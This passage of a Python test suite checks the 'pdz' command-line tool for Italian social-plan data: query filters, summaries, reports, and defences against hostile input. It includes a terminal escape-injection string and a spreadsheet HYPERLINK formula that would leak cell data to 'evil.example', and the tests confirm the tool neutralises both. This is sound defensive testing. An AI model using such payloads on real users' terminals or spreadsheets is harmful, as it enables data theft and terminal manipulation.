        self.assertEqual(rows[0]['macroarea'], 'politiche-abitative')
        # The key of the row of project actions, guarded as a formula
        # would be: the library's CSV rule for every cell.
        self.assertEqual(rows[-1]['macroarea'], "'+projects")
        self.assertTrue(out.endswith('\r\n'))

    @needs_bindings
    def test_library_csv(self):
        stats = Pdz.Stats.new(load(EXAMPLE))
        for name in SummaryJson.TABLES:
            for dialect, value in (('rfc4180', Pdz.ReportCsvDialect.RFC4180),
                                   ('excel-it', Pdz.ReportCsvDialect.EXCEL_IT)):
                status, out, err = pdz('summary', '-f', 'csv', '--table', name, '--csv-dialect', dialect,
                                       EXAMPLE)
                self.assertEqual((status, err), (0, ''))
                table = getattr(stats, name.replace('-', '_'))()
                self.assertEqual(out, table.to_csv(value), (name, dialect))


class SummaryLanguage(unittest.TestCase):
    """pdz summary speaks the plan's language, or that of --lang, by the
    rule of validate and report; no text of one language in the other."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.plan = json.loads(pathlib.Path(EXAMPLE).read_text(encoding='utf-8'))
        cls.plans = {}
        for language in (None, 'en', 'de', 'it_IT'):
            plan = dict(cls.plan)
            plan.pop('language', None)
            if language is not None:
                plan['language'] = language
            cls.plans[language] = write_plan(cls.tmp.name, f'{language}.json', plan)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def test_language_rule(self):
        # No language: Italian, as Piani di Zona are; a language libpdz
        # lacks: English; --lang wins over the plan.
        for language, heading in ((None, 'Partner principali'), ('it_IT', 'Partner principali'),
                                  ('en', 'Top partners'), ('de', 'Top partners')):
            status, out, err = pdz('summary', self.plans[language])
            self.assertEqual((status, err), (0, ''), language)
            self.assertIn('\n' + heading, out, language)
        _, out, _ = pdz('summary', '--lang', 'it', self.plans['en'])
        self.assertIn('\nPartner principali', out)
        _, out, _ = pdz('summary', '--lang', 'en', self.plans[None])
        self.assertIn('\nTop partners', out)

    @needs_bindings
    def test_pure(self):
        """Each fixed text of the summary in one language only."""
        keys = ['summary-' + k for k in (
            'plan', 'language', 'monitoring', 'objectives', 'actions', 'projects', 'top-partners',
            'own-bodies', 'roles', 'fundings', 'amount', 'amount-not-stated', 'planned-and-extra')]
        keys += ['status-by-macroarea', 'funding-by-source', 'no-macroarea', 'project-actions', 'total']
        # A plan with a row for each, and no text of either language.
        plan = json.loads(json.dumps(FILTERS_PLAN))
        plan.update({'ambito': 'Ambito X', 'monitoring': {'title': 'Round', 'start': '2022', 'end': '2023'}})
        plan['objectives'].append({'id': 'o3', 'title': 'Loose'})
        path = write_plan(self.tmp.name, 'pure.json', plan)
        _, italian, _ = pdz('summary', '--lang', 'it', path)
        _, english, _ = pdz('summary', '--lang', 'en', path)
        for key in keys:
            it, en = Pdz.format_get_text(key, 'it'), Pdz.format_get_text(key, 'en')
            self.assertIn(it, italian, key)
            self.assertIn(en, english, key)
            if it != en:
                self.assertNotRegex(italian, r'(?<!\w)%s(?!\w)' % re.escape(en), key)
                self.assertNotRegex(english, r'(?<!\w)%s(?!\w)' % re.escape(it), key)

    def test_unknown_language_even_for_json(self):
        status, out, _ = pdz('summary', '--format', 'json', '--lang', 'de', EXAMPLE)
        self.assertEqual((status, out), (2, ''))
        _, out, _ = pdz('summary', '--help')
        self.assertIn('--lang', out)
        self.assertNotIn('--language', out)


# ---- query -----------------------------------------------------------------

class Query(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.plan = write_plan(cls.tmp.name, 'filters.json', FILTERS_PLAN)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def query(self, *args, plan=None):
        status, out, err = pdz('query', plan or self.plan, '--format', 'json', *args)
        self.assertEqual((status, err), (0, ''), args)
        return json.loads(out)

    def ids(self, *args, plan=None):
        return [action['id'] for action in self.query(*args, plan=plan)['actions']]

    def test_every_filter(self):
        """Each filter, counted by hand on FILTERS_PLAN."""
        cases = [
            ((), ['a1', 'a2', 'a2-1', 'a3', 'b1', 'p1-a']),
            (('--macroarea', 'm1'), ['a1', 'a2', 'a2-1', 'a3']),
            (('--macroarea', 'm1', '--via-projects'), ['a1', 'a2', 'a2-1', 'a3', 'p1-a']),
            (('--objective', 'o2'), ['b1']),
            (('--objective-kind', 'health-integration'), ['b1']),
            (('--partner', 'ets,b'), ['a1']),
            (('--partner', 'ets,b', '--partner', 'comune-a'), ['a1', 'a2-1']),
            (('--role', 'lead'), ['a2-1']),
            (('--role', 'lead,partner'), ['a1', 'a2-1']),
            (('--role', 'lead', '--role', 'partner'), ['a1', 'a2-1']),
            (('--partner-kind', 'own-body'), ['b1']),
            (('--project', 'p1'), ['p1-a']),
            (('--funding-source', 'fnps'), ['a3']),
            (('--status', 'not-stated'), ['a3']),
            (('--status', 'completed'), ['a1', 'a2-1', 'p1-a']),
            (('--origin', 'planned'), ['a1']),
            (('--origin', 'extra'), ['a2']),
            (('--extra',), ['a2']),
            (('--origin', 'not-stated'), ['a2-1', 'a3', 'b1', 'p1-a']),
            (('--origin', 'planned', '--origin', 'extra'), ['a1', 'a2']),
            (('--undated',), ['a2-1', 'a3']),
            (('--start', '2023'), ['a2', 'b1', 'p1-a']),
            (('--start', '2023-10', '--end', '2023-12'), ['b1', 'p1-a']),
            (('--end', '2022'), ['a1']),
            (('--text', 'LIBERTA'), ['a3']),
            (('--text', 'alpha', '--text', 'second'), ['a2']),
            (('--sort', 'title'), ['a2', 'b1', 'a3', 'p1-a', 'a2-1', 'a1']),
            # 2023 before 2023-02: the coarser first (doc/queries.md)
            (('--sort', 'date'), ['a1', 'p1-a', 'a2', 'b1', 'a2-1', 'a3']),
            (('--sort', 'status'), ['b1', 'a2', 'a1', 'a2-1', 'p1-a', 'a3']),
        ]
        for args, expected in cases:
            self.assertEqual(self.ids(*args), expected, args)

    def test_aliases(self):
        for (a, b) in ((('--from', '2023'), ('--start', '2023')), (('--to', '2022'), ('--end', '2022')),
                       (('--extra',), ('--origin', 'extra'))):
            self.assertEqual(self.query(*a), self.query(*b), a)

    def test_counted(self):
        # The sub-action a2-1 is found, and counts as its bullet a2.
        result = self.query('--status', 'completed')
        self.assertEqual((result['found'], result['counted']), (3, 2))
        result = self.query('--role', 'lead')
        self.assertEqual((result['found'], result['counted']), (1, 1))
        status, out, _ = pdz('query', self.plan, '--status', 'completed')
        self.assertTrue(out.endswith('\n3 actions found, 2 counted\n'), out)
        status, out, _ = pdz('query', self.plan, '--objective', 'o2')
        self.assertTrue(out.endswith('\n1 action found, 1 counted\n'), out)

    @needs_bindings
    def test_as_the_library_finds(self):
        """What pdz query prints is what PdzQuery finds, counted by
        count_actions(), with the library's rows."""
        plan = load(EXAMPLE)
        table = plan.dup_table(Pdz.EntityKind.ACTION)
        cases = [
            ((), lambda q: None),
            (('--macroarea', 'azioni-di-sistema'), lambda q: q.set_macroareas(['azioni-di-sistema'])),
            (('--macroarea', 'azioni-di-sistema', '--via-projects'),
             lambda q: (q.set_macroareas(['azioni-di-sistema']), q.set_via_projects(True))),
            (('--status', 'not-stated'), lambda q: q.set_statuses(Pdz.StatusFlags.NOT_STATED)),
            (('--status', 'completed'), lambda q: q.set_statuses(Pdz.StatusFlags.COMPLETED)),
            (('--partner', 'prefettura-milano', '--partner', 'aler'),
             lambda q: q.set_partners(['prefettura-milano', 'aler'])),
            (('--start', '2023'), lambda q: q.set_start(Pdz.Date.new_from_string('2023'))),
            (('--undated',), lambda q: q.set_undated(True)),
            (('--origin', 'extra'), lambda q: q.set_origins(Pdz.OriginFlags.EXTRA)),
            (('--partner-kind', 'own-body'), lambda q: q.set_partner_kinds(Pdz.PartnerKindFlags.OWN_BODY)),
            (('--sort', 'date'), lambda q: q.set_sort(Pdz.QuerySort.DATE)),
        ]
        for args, setup in cases:
            query = Pdz.Query.new(plan)
            setup(query)
            found = [action.get_id() for action in query.find_actions()]
            result = self.query(*args, plan=EXAMPLE)
            self.assertEqual([a['id'] for a in result['actions']], found, args)
            self.assertEqual(result['counted'], query.count_actions(), args)
            self.assertEqual(result['found'], len(found), args)
            self.assertEqual(result['actions'], json.loads(table.dup_rows(found).to_json()), args)
            status, out, _ = pdz('query', EXAMPLE, '--format', 'csv', *args)
            self.assertEqual(out, table.dup_rows(found).to_csv(Pdz.ReportCsvDialect.RFC4180), args)

    def test_table(self):
        status, out, _ = pdz('query', EXAMPLE, '--macroarea', 'politiche-abitative')
        self.assertEqual(status, 0)
        lines = out.splitlines()
        self.assertRegex(lines[0], r'^ID +STATUS +DATE +TITLE$')
        self.assertEqual(lines[-1], '5 actions found, 5 counted')
        self.assertTrue(lines[1].startswith('agenzia-abitare-1 '))
        # Milestones date an action without a date of its own.
        self.assertRegex(lines[1], r' completed +2023-11 +Avvio analisi')
        self.assertIn('…', out)
        self.assertRegex(out, r'emergenza-abitativa-4 +not-stated .* \[extra\]\n')

    def test_table_ascii_locale(self):
        status, out, _ = pdz('query', EXAMPLE, '--partner', 'prefettura-milano', LC_ALL='C')
        self.assertEqual(status, 0)
        self.assertTrue(is_ascii(out))
        self.assertTrue(out.endswith('2 actions found, 2 counted\n'))

    def test_csv(self):
        status, out, _ = pdz('query', EXAMPLE, '--macroarea', 'politiche-abitative', '--format', 'csv')
        self.assertEqual(status, 0)
        rows = list(csv.DictReader(io.StringIO(out, newline='')))
        self.assertEqual(len(rows), 5)
        self.assertEqual(list(rows[0]), ['id', 'parent', 'objective', 'project', 'macroarea', 'title',
                                         'status', 'origin', 'date', 'end-date', 'projects', 'links'])
        protocol = [row for row in rows if row['id'] == 'emergenza-abitativa-2'][0]
        self.assertIn('Città Metropolitana di Milano, ANCI Lombardia', protocol['title'])
        self.assertEqual(protocol['objective'], 'emergenza-abitativa')
        status, out, _ = pdz('query', EXAMPLE, '-f', 'csv', '--csv-dialect', 'excel-it')
        self.assertTrue(out.startswith('\ufeffid;parent;'))

    def test_json(self):
        result = self.query('--partner', 'visconteo', plan=EXAMPLE)
        self.assertEqual(list(result), ['found', 'counted', 'actions'])
        self.assertEqual([a['id'] for a in result['actions']], ['integrazione-sociosanitaria-2'])
        self.assertEqual(result['actions'][0]['objective'], 'integrazione-sociosanitaria')
        self.assertEqual(result['actions'][0]['macroarea'], 'azioni-di-sistema')
        self.assertEqual(result['actions'][0]['parent'], None)

    def test_unknown_ids(self):
        for option, what in (('--macroarea', 'macroarea'), ('--objective', 'objective'),
                             ('--partner', 'partner'), ('--project', 'project')):
            status, out, err = pdz('query', self.plan, option, 'nobody')
            self.assertEqual((status, out), (2, ''))
            self.assertEqual(err, 'pdz: query: %s: %s: no %s with the id "nobody"\n'
                             % (self.plan, option, what))
        # "ets,b" is one id, never two.
        status, _, err = pdz('query', self.plan, '--partner', 'ets')
        self.assertEqual(status, 2)


class Report(unittest.TestCase):
    def test_filters_are_the_query_s(self):
        status, out, _ = pdz('report', '--help')
        for option in ('--partner=ID', '--origin=ORIGIN', '--undated', '--via-projects', '--sort=ORDER',
                       '--status=STATUS', '--start=DATE'):
            self.assertIn(option, out)
        _, query_help, _ = pdz('query', '--help')
        filters = [line for line in query_help.splitlines() if line.startswith('  --') and
                   'format' not in line and 'ascii' not in line and 'dialect' not in line]
        for line in filters:
            self.assertIn(line, out)

    @needs_bindings
    def test_filters_limit_the_report(self):
        has_query = Pdz.Report.find_property('query') is not None
        status, out, err = pdz('report', EXAMPLE, '-f', 'md', '--partner', 'aler', '--date', '2023-11-30')
        if has_query:
            self.assertEqual((status, err), (0, ''))
            _, whole, _ = pdz('report', EXAMPLE, '-f', 'md', '--date', '2023-11-30')
            self.assertLess(len(out), len(whole))
        else:
            self.assertEqual((status, out), (2, ''))
            self.assertEqual(err, 'pdz: report: --partner: this build of libpdz cannot limit a report to '
                                  'the actions a filter finds (it has no PdzReport:query)\n')

    def test_refuses_input(self):
        with tempfile.TemporaryDirectory() as tmp:
            plan = os.path.join(tmp, 'plan.html')
            pathlib.Path(plan).write_bytes(pathlib.Path(EXAMPLE).read_bytes())
            status, _, err = pdz('report', plan, '-o', plan)
            self.assertEqual(status, 2)
            self.assertEqual(err, 'pdz: report: %s: refusing to overwrite the input file\n' % plan)


# ---- terminal safety ---------------------------------------------------------

# Every C0 control but NUL (JSON \u0001 to \u001f), DEL and the C1 controls.
CONTROLS = (''.join(chr(c) for c in range(0x01, 0x20)) + '\x7f' +
            ''.join(chr(c) for c in range(0x80, 0xa0)))
# The bidirectional embeddings, overrides and isolates.
BIDI = ''.join(chr(c) for c in range(0x202a, 0x202f)) + ''.join(chr(c) for c in range(0x2066, 0x206a))
# What a terminal would obey: set the window title, clear the screen.
ESCAPE = '\x1b]0;PWNED\x07\x1b[2J'


def is_terminal_safe(text):
    """No character a terminal would obey (C0 but TAB and newline, DEL, C1),
    and no bidirectional control."""
    return not [c for c in text
                if (ord(c) < 0x20 and c not in '\t\n') or 0x7f <= ord(c) <= 0x9f or c in BIDI]


class TerminalSafety(unittest.TestCase):
    """Plan text holding control characters and bidirectional overrides:
    faithful in JSON, CSV and reports read by programs, harmless on a
    terminal and in every message."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        plan = json.loads((CHECKS / 'clean.json').read_text(encoding='utf-8'))
        plan['title'] = 'Plan' + CONTROLS + BIDI
        plan['ambito'] = ESCAPE + 'Ambito'
        plan['macroareas'][0]['title'] = 'Macroarea' + CONTROLS
        plan['partners'][1]['name'] = 'Partner\u202e' + CONTROLS
        plan['objectives'][0]['actions'][0]['title'] = 'Action' + CONTROLS + BIDI
        plan['objectives'][0]['actions'][1]['title'] = ESCAPE + 'Action two'
        plan['projects'][0]['fundings'][0]['source'] = 'Source' + CONTROLS
        # Quoted by the message of objective-without-actions.
        plan['objectives'].append({'id': 'o2', 'title': 'O\u202e' + CONTROLS[:31],
                                   'macroarea': 'm1', 'status': 'planned'})
        cls.plan = write_plan(cls.tmp.name, 'controls.json', plan)
        # The same, with a status no plan may have (its error quotes it).
        plan['objectives'][0]['status'] = ESCAPE + '\u202e'
        cls.bad_plan = write_plan(cls.tmp.name, 'bad-status.json', plan)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def json_of(self, *args, statuses=(0, 1)):
        status, out, err = pdz(*args)
        self.assertIn(status, statuses, err)
        # Only the newlines and spaces of pretty-printing are raw.
        self.assertTrue(all(ord(c) >= 0x20 or c in '\n' for c in out), repr(out[:200]))
        self.assertTrue(is_terminal_safe(out))
        self.assertIn('\\u202e', out)
        return json.loads(out)   # strict: a raw control fails

    def test_json_query(self):
        actions = self.json_of('query', self.plan, '--format', 'json')['actions']
        self.assertEqual(actions[0]['title'], 'Action' + CONTROLS + BIDI)
        self.assertEqual(actions[1]['title'], ESCAPE + 'Action two')

    def test_json_summary(self):
        summary = self.json_of('summary', '--format', 'json', self.plan)
        self.assertEqual(summary['plan']['title'], 'Plan' + CONTROLS + BIDI)
        self.assertEqual(summary['plan']['ambito'], ESCAPE + 'Ambito')
        self.assertEqual(summary['by-macroarea'][0]['title'], 'Macroarea' + CONTROLS)
        self.assertIn('Partner\u202e' + CONTROLS, [row['name'] for row in summary['by-partner']])

    def test_json_validate(self):
        report = self.json_of('validate', '--format', 'json', self.plan)
        messages = [d['message'] for d in report['files'][0]['diagnostics']]
        # The library quotes plan text in a message with its controls
        # escaped: the message itself is safe (issue 13).
        self.assertTrue([m for m in messages if 'O\\u202e\\u0001\\u0002' in m], messages)

    def test_text_outputs(self):
        for lc_all, replacement in (('C.UTF-8', '\ufffd'), ('C', '?')):
            for args in (('validate', self.plan), ('summary', self.plan),
                         ('query', self.plan), ('query', self.plan, '--ascii')):
                status, out, err = pdz(*args, LC_ALL=lc_all)
                self.assertLess(status, 2, (args, err))
                self.assertTrue(is_terminal_safe(out), (args, lc_all, repr(out)))
                if args[0] != 'validate':   # its messages come escaped by the library
                    self.assertIn('?' if '--ascii' in args else replacement, out, args)
                self.assertNotIn('\x1b', out)
            # The tab is kept, the rest replaced one for one.
            _, out, _ = pdz('query', self.plan, LC_ALL=lc_all)
            expected = CONTROLS.replace('\t', '\x00')
            expected = ''.join('\t' if c == '\x00' else replacement for c in expected)
            self.assertIn('Action' + expected[:10], out)
        # On a terminal, with colour, the same.
        for args in (('validate', self.plan), ('summary', self.plan), ('query', self.plan)):
            _, out = pdz_on_terminal(*args)
            self.assertTrue(is_terminal_safe(out.replace('\r\n', '\n').replace('\x1b[', '')), args)
            self.assertNotIn('PWNED\x07', out)
            self.assertNotIn('\x1b]', out)
            self.assertNotIn('\x1b[2J', out)

    def test_data_on_a_terminal(self):
        """CSV and reports are faithful for a program, safe on a terminal."""
        for args in (('query', self.plan, '-f', 'csv'), ('summary', self.plan, '-f', 'csv'),
                     ('report', self.plan, '-f', 'md'), ('report', self.plan, '-f', 'csv',
                                                         '--table', 'actions')):
            status, piped, _ = pdz(*args)
            self.assertEqual(status, 0)
            status, shown = pdz_on_terminal(*args)
            self.assertEqual(status, 0)
            self.assertTrue(is_terminal_safe(shown.replace('\r\n', '\n')), (args, repr(shown[:300])))
            if args[0] != 'summary':
                self.assertIn('\u202e', piped, args)

    def test_error_messages(self):
        for lc_all in ('C.UTF-8', 'C'):
            # A plan value quoted by the library's message.
            status, out, err = pdz('summary', self.bad_plan, LC_ALL=lc_all)
            self.assertEqual(status, 2)
            self.assertIn('PWNED', err)
            self.assertTrue(is_terminal_safe(err), repr(err))
            self.assertEqual(err.count('\n'), 1, err)
            # Command-line values quoted by the tool's own messages.
            for args in (('query', self.plan, '--partner', ESCAPE + '\u202e'),
                         ('query', self.plan, '--status', ESCAPE + '\u2066'),
                         ('query', self.plan, '--' + ESCAPE),
                         ('validate', '--disable', ESCAPE, self.plan),
                         ('report', '--lang', ESCAPE + '\u202e', self.plan)):
                status, out, err = pdz(*args, LC_ALL=lc_all)
                self.assertEqual(status, 2, args)
                # In the C locale GLib refuses a non-ASCII argument whole.
                if lc_all != 'C' or is_ascii(''.join(args)):
                    self.assertIn('PWNED', err)
                self.assertTrue(is_terminal_safe(err), (args, repr(err)))

    def test_file_name_not_utf8(self):
        # A file name is bytes: shown with U+FFFD, in JSON and on stderr.
        missing = str(pathlib.Path(self.tmp.name) / 'nope\udcff.json')
        status, out, err = pdz('validate', '--format', 'json', missing, self.plan)
        self.assertEqual(status, 2)
        report = json.loads(out)
        self.assertEqual(report['files'][0]['file'], missing.replace('\udcff', '\ufffd'))
        self.assertIn('nope\ufffd.json', err)


class CsvFormulas(unittest.TestCase):
    def test_query_csv_neutralised(self):
        status, out, _ = pdz('query', str(DATA / 'injection.json'), '--format', 'csv')
        self.assertEqual(status, 0)
        rows = list(csv.reader(io.StringIO(out, newline='')))
        self.assertGreater(len(rows), 1)
        for row in rows:
            for cell in row:
                self.assertFalse(cell[:1] in ('=', '+', '-', '@', '\t', '\r'), (cell, row))
        titles = {row[0]: row[5] for row in rows[1:]}
        # The library's rule: an apostrophe in front, nothing lost.
        self.assertEqual(titles['act-1'], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Clicca\")")
        self.assertEqual(titles['act-3'], "'-2+3 inizia con meno")
        self.assertEqual(titles['act-6'], "'@SUM(1+1) inizia con una chiocciola")
        self.assertIn('"\'=HYPERLINK(', out)

    def test_query_csv_like_report(self):
        """The same cell, written by pdz query and by pdz report."""
        _, query, _ = pdz('query', str(DATA / 'injection.json'), '--format', 'csv')
        status, report, err = pdz('report', str(DATA / 'injection.json'), '-f', 'csv',
                                  '--table', 'actions')
        self.assertEqual(status, 0, err)
        for cell in ('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Clicca"")"',
                     '"\'-2+3 inizia con meno"', '"\'@SUM(1+1) inizia con una chiocciola"'):
            self.assertIn(cell, query)
            self.assertIn(cell, report)


class Readme(unittest.TestCase):
    """The README's commands give useful output on the example plan."""

    def commands(self):
        text = README.read_text(encoding='utf-8')
        block = text.split('The `pdz` command', 1)[1].split('```sh', 1)[1].split('```', 1)[0]
        lines = [line.split('#', 1)[0].strip() for line in block.splitlines()]
        return [shlex.split(line) for line in lines if line.startswith('pdz ')]

    def test_examples(self):
        commands = self.commands()
        self.assertGreaterEqual(len(commands), 4)
        with tempfile.TemporaryDirectory() as tmp:
            pathlib.Path(tmp, 'plan.json').write_bytes(pathlib.Path(EXAMPLE).read_bytes())
            for command in commands:
                status, out, err = pdz(*command[1:], cwd=tmp)
                self.assertIn(status, (0, 1), (command, err))
                written = [p for p in pathlib.Path(tmp).iterdir() if p.name != 'plan.json']
                if '-o' in command:
                    self.assertTrue(written, command)
                    for path in written:
                        path.unlink()
                    continue
                lines = out.splitlines()
                if command[1] == 'query':
                    # Rows, not only a header.
                    if '--format' in command or '-f' in command:
                        self.assertGreater(len(lines), 1, command)
                    else:
                        self.assertNotRegex(lines[-1], r'^0 actions', command)
                else:
                    self.assertGreater(len(lines), 3, command)


if __name__ == '__main__':
    unittest.main(verbosity=2)
